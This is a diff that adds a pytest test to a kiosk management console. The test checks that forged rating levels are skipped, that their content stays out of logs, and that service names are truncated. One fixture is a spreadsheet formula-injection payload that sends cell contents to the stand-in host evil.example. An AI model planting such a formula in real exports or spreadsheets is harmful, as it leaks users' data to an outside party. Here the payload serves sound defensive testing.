@@ -350,3 +350,23 @@ def test_a_reinstalled_kiosk_counting_from_1_again_is_online_and_a_late_will_is_
     assert kiosk(console_db, "k2").state == "online"
     write(console_db, msg("k2", "status", status("lost", 1, T0 + 3600), T0 + 3800))
     assert (kiosk(console_db, "k2").state, kiosk(console_db, "k2").session) == ("lost", 1)
+
+
+def test_a_rating_with_a_level_the_kiosk_does_not_have_is_skipped_without_its_content(
+    console_db: Database, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Only the kiosk's RatingLevel values are counted; a forged level (a compromised kiosk's
+    formula or script) is skipped and logged without what it said. Names are kept short."""
+    rated = {"type": "service_rated", "department": "公安局", "service": "户籍证明"}
+    forged = '=HYPERLINK("http://evil.example/?"&A1)'
+    write(
+        console_db,
+        msg("k1", "event", {**rated, "at": T0, "level": "satisfied", "service": "s" * 1000}, T0),
+        msg("k1", "event", {**rated, "at": T0 + 1, "level": forged}, T0 + 1),
+        msg("k1", "event", {**rated, "at": T0 + 2, "level": 3}, T0 + 2),
+    )
+    with console_db.session() as session:
+        rows = list(session.scalars(select(KioskEvent)))
+    assert [row.details["level"] for row in rows] == ["satisfied"]
+    assert len(rows[0].details["service"]) == 128
+    assert "rating levels" in caplog.text and "HYPERLINK" not in caplog.text
